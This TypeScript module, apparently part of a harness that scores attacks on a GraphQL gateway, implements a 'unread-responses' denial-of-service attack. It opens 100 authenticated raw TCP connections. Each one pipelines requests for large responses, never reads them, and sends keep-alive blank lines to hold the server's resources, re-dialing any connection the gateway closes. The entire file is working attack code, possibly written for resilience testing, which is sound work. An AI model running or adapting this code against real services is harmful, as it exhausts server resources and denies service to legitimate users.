import { type Socket, connect } from 'node:net';
import type { Attack } from './attack.ts';
import { pause } from './send-post.ts';

const CONNECTIONS = 100;
const RESPONSES = 4;
/** Number of pages of 200 KB in a response: 4 MB, at a cost that the budget of a user allows for all requests. */
const PAGES = 20;
/** @unit milliseconds */
const PAUSE_BEFORE_DIALING_MS = 1_000;
/**
 * Interval of writes to each connection: a client that reads nothing detects only by writing that the gateway has closed the connection.
 * @unit milliseconds
 */
const TRY_INTERVAL_MS = 1_000;

/**
 * Opens 100 connections of a signed-in user that each request 4 responses of 4 MB and read none of them. A connection that the gateway
 * closes is opened again after a second.
 */
export const unreadResponses: Attack = {
  name: 'unread-responses',
  point: 4,
  minRate: (CONNECTIONS * RESPONSES) / 60,
  async run({ url, userToken }, tally, signal) {
    const { hostname, port } = new URL(url);
    const body = JSON.stringify({ query: `{ pages(first: ${PAGES}) { text } }` });
    const request =
      `POST /graphql HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nAuthorization: Bearer ${userToken}\r\n` +
      `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
    const open = new Set<Socket>();
    const dial = (): void => {
      if (signal.aborted) return;
      const socket = connect(Number(port), hostname, () => {
        tally.sent += RESPONSES;
        socket.write(request.repeat(RESPONSES));
      });
      open.add(socket.pause());
      // A server ignores an empty line before a request.
      const trying = setInterval(() => socket.write('\r\n'), TRY_INTERVAL_MS);
      socket.on('error', () => undefined);
      socket.on('close', () => {
        clearInterval(trying);
        open.delete(socket);
        if (signal.aborted) return;
        tally.broken += 1;
        void pause(PAUSE_BEFORE_DIALING_MS, signal).then(dial);
      });
    };
    for (let count = 0; count < CONNECTIONS; count += 1) dial();
    await new Promise<void>((resolve) => {
      signal.addEventListener('abort', () => resolve(), { once: true });
    });
    for (const socket of open) socket.destroy();
  },
};
